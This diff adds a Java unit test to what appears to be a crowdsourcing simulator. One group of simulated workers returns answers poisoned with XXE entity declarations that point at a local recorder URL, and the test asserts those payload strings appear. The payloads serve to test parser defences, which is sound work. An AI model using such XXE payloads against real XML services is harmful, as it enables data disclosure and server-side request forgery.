@@ -154,6 +154,42 @@ class SimCrowdTest {
         .allSatisfy(n -> assertThat(n).isBetween(60L, 120L));
   }
 
+  @Test
+  void aGroupsOwnPoisonAppliesToItsWorkersOnlyAndXxePointsAtTheConfiguredTarget() throws Exception {
+    String file =
+        """
+        {"arrival": {"medianSeconds": 10, "sigma": 0},
+         "groups": [
+           {"name": "honest", "count": 5, "behaviour": "honest",
+            "latency": {"medianSeconds": 60, "sigma": 0}},
+           {"name": "xxe", "count": 5, "behaviour": "honest",
+            "latency": {"medianSeconds": 60, "sigma": 0}, "poison": {"xxeRate": 1.0}}]}
+        """;
+    CrowdSpec spec =
+        CrowdFile.parse(new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8)), "test");
+    registry.addWorkerSource(
+        new SimulatedCrowd(
+            spec,
+            GroundTruth.hashed(0.5),
+            AnswerPoison.NONE.withXxeTarget("http://127.0.0.1:9/recorder"),
+            11));
+    for (int i = 0; i < 100; i++) {
+      registry.create(request("https://img.example.org/" + i + ".jpg", "dog", 1));
+    }
+    clock.advance(Duration.ofMinutes(5));
+    for (Hit hit : registry.hits()) {
+      Assignment a = hit.assignments().get(0);
+      if (a.workerId().startsWith("A02XXE")) {
+        assertThat(a.answer())
+            .contains("<!ENTITY % dtd SYSTEM \"http://127.0.0.1:9/recorder?parameter-entity\">")
+            .contains("<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/recorder?general-entity\">")
+            .contains("<FreeText>&xxe;</FreeText>");
+      } else {
+        assertThat(a.answer()).doesNotContain("DOCTYPE").containsPattern("<FreeText>(yes|no)<");
+      }
+    }
+  }
+
   private void crowd(WorkerGroup group, GroundTruth truth) {
     crowd(group, truth, AnswerPoison.NONE);
   }
